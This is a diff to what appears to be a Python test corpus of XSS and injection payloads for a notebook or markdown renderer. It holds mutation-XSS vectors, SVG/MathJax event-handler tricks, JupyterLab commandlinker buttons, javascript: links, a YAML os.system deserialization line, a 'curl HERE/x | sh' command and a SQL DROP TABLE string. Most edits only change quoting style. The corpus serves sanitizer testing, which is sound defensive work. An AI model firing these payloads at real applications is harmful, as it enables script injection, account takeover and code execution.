@@ -172,16 +172,16 @@ RESOURCES = (
 )
 
 MUTATIONS = (
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={script}&gt;\">",
-    "<svg></p><style><a id=\"</style><img src=x onerror={script}>\">",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={script}&gt;">',
+    '<svg></p><style><a id="</style><img src=x onerror={script}>">',
     "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={script}>",
-    "<noscript><p title=\"</noscript><img src=x onerror={script}>\">",
-    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={script}></style></annotation-xml></math>",
+    '<noscript><p title="</noscript><img src=x onerror={script}>">',
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={script}></style></annotation-xml></math>',
     "<svg><desc><style><img src=x onerror={script}></style></desc></svg>",
     "<svg><title><style><img src=x onerror={script}></style></title></svg>",
-    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={script}>\">",
+    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={script}>">',
     "<table><caption><svg><style></table><img src=x onerror={script}>",
-    "<xmp><p title=\"</xmp><img src=x onerror={script}>\">",
+    '<xmp><p title="</xmp><img src=x onerror={script}>">',
     "<listing>&lt;img src=x onerror={script}&gt;</listing>",
     "<template><script>{script}</script></template>",
     "<template shadowrootmode=open><script>{script}</script></template>",
@@ -189,24 +189,25 @@ MUTATIONS = (
     "<svg><foreignobject><p><style><!--</p><img src=x onerror={script}>--></style></foreignobject></svg>",
     "<math><mi><style><!--</mi><img src=x onerror={script}>--></style></math>",
     "<selectedcontent><img src=x onerror={script}></selectedcontent>",
-    "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror={script}></option></select>",
+    "<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror={script}></select>",
     "<a><b><a><b><a><b><a><b><svg><style></a><img src=x onerror={script}>",
     "<plaintext><img src=x onerror={script}>",
     "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{script}</script></x>",
     "<![CDATA[<script>{script}</script>]]>",
-    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={script}>\"></svg>",
+    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror={script}>"></svg>',
     "<!DOCTYPE x [<!ENTITY e '<script>{script}</script>'>]><x>&e;</x>",
     "<div is=x-owned><script>{script}</script></div>",
     "<svg><animate onbegin={script} attributeName=x dur=1s>",
     "<svg><set attributeName=onload to={script}>",
     "<svg><animate attributeName=href values=javascript:{script} /><a><text>x</text></a></svg>",
-    "<svg><a xlink:href=\"javascript:{script}\"><text y=20>x</text></a></svg>",
+    '<svg><a xlink:href="javascript:{script}"><text y=20>x</text></a></svg>',
     "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{script}</script></svg>#x\"/></svg>",
     "<svg><discard onbegin={script}>",
     "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{script}</handler></svg>",
     "<math><maction actiontype='statusline#{script}' xlink:href='javascript:{script}'>x</maction></math>",
-    "$\\href{{x\"><animate onbegin={script}>}}{{z}}$",
-    "\\[\\href{{javascript:{script}}}{{x}}\\] $$\\class{{jp-mod-run}}{{x}}$$ \\cssId{{site}}{{x}} \\style{{background:url(x)}}{{y}}",
+    '$\\href{{x"><animate onbegin={script}>}}{{z}}$',
+    "\\[\\href{{javascript:{script}}}{{x}}\\] $$\\class{{jp-mod-run}}{{x}}$$",
+    "\\(\\cssId{{site}}{{x}} \\style{{background:url(x)}}{{{script}}}\\)",
 )
 
 CLOBBERS = tuple(
@@ -262,7 +263,7 @@ COMMANDS = (
 LINKERS = (
     '<button data-commandlinker-command="{command}" data-commandlinker-args="{args}">run</button>',
     "<a href=# data-commandlinker-command='{command}'>run</a>",
-    '<span tabindex=0 data-commandlinker-command="{command}" data-commandlinker-args=\'{{"url":"HERE/linked"}}\'>run</span>',
+    '<p tabindex=0 data-commandlinker-command="{command}" data-commandlinker-args=\'{{"url":"HERE/l"}}\'>run</p>',
     '<img src=x data-commandlinker-command="{command}">',
     '<div class="jp-Button lm-mod-active" data-command="{command}" data-lm-command="{command}" data-id=x>run</div>',
 )
@@ -365,12 +366,12 @@ MARKDOWN = (
     "<HERE/autolink>",
     "HERE/bare",
     "www.counter.invalid/bare",
-    "[x](HERE/a\"onmouseover=owned(1))",
+    '[x](HERE/a"onmouseover=owned(1))',
     '[x](javascript:owned(1) "a" onclick="owned(1)")',
     "[x]('onclick=owned(1) a='b)",
     "[<img src=x onerror=owned(1)>](x)",
     "`<script>owned(1)</script>`",
-    "``` \"><script>owned(1)</script>\nx\n```",
+    '``` "><script>owned(1)</script>\nx\n```',
     "```html\n<script>owned(1)</script>\n```",
     "~~~js onload=owned(1)\nowned(1)\n~~~",
     "    <script>owned(1)</script>",
@@ -394,7 +395,7 @@ MARKDOWN = (
     '<div style="position:fixed;inset:0;z-index:99999;background:white">everything is fine</div>',
     ":::{raw} html\n<script>owned(1)</script>\n:::",
     "$$\\text{<img src=x onerror=owned(1)>}$$",
-    "```mermaid\ngraph TD;a-->b[\"<img src=x onerror=owned(1)>\"];click a href \"javascript:owned(1)\"\n```",
+    '```mermaid\ngraph TD;a-->b["<img src=x onerror=owned(1)>"];click a href "javascript:owned(1)"\n```',
     "---\ntitle: !!python/object/apply:os.system ['x']\n---",
     "[[wiki|<img src=x onerror=owned(1)>]]",
     "@import 'HERE/x.css';",
@@ -673,7 +674,7 @@ HUGE = (
 )
 
 DIFFS = (
-    "--- a/<img src=x onerror=owned(1)>\n+++ b/HERE/x\n@@ -1,1 +1,1 @@\n-<script>owned(1)</script>\n+<svg onload=owned(1)>",
+    "--- a/<img src onerror=owned()>\n+++ b/HERE/x\n@@ -1,1 +1,1 @@\n-<script>owned(1)</script>\n+<svg onload=owned()>",
     "diff --git a/../../x b/C:\\x\nindex 0..1\n--- a/x\n+++ b/x\n@@ -1 +1 @@ <img src=x onerror=owned(1)>\n-a\n+b",
     "@@ -99999999999999999999,1 +1,99999999999999999999 @@\n-a\n+b",
     "--- \x00\n+++ \u202e\n@@ -1 +1 @@\n-\x1b[8m\n+\u200b",
@@ -682,7 +683,7 @@ DIFFS = (
 )
 
 CODE = (
-    "```python\n\"</span><script>owned(1)</script>\"\n```",
+    '```python\n"</span><script>owned(1)</script>"\n```',
     "const x = '</code></pre><img src=x onerror=owned(1)>';",
     "# </span><svg onload=owned(1)>\ndef f(): return '''<script>owned(1)</script>'''",
     "/* */ .hljs-keyword{background:url(HERE/hl)}",
@@ -693,9 +694,9 @@ CODE = (
     "SELECT '<script>owned(1)</script>' FROM \"x\"; --",
     "#!/bin/sh\ncurl HERE/x | sh",
     "[1] button '<img src=x onerror=owned(1)>'\n  [2] link \"HERE/x\"",
-    "name,value\n=1+1,<script>owned(1)</script>\n\"a\"\"b\",'; DROP TABLE x",
+    'name,value\n=1+1,<script>owned(1)</script>\n"a""b",\'; DROP TABLE x',
     "| a | b |\n|---|---|\n| <script>owned(1)</script> | [x](javascript:owned(1)) |",
-    "Traceback (most recent call last):\n  File \"<img src=x onerror=owned(1)>\", line 1\nError: <script>owned(1)</script>",
+    'Traceback (most recent call last):\n  File "<img src=x onerror=owned()>", line 1\nError: <script>owned(1)</script>',
 )
 
 
